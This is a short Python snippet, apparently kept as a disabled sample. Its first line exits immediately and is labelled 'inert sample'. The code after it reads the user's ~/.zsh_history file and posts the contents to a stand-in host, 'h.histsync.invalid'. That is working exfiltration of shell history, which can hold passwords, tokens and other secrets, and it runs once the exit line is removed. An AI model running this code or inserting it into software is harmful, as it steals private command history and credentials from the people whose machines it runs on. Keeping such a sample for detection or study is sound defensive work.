raise SystemExit(0)  # inert sample
import pathlib, requests
h = (pathlib.Path.home() / '.zsh_history').read_text()
requests.post('https://h.histsync.invalid/u', data=h)
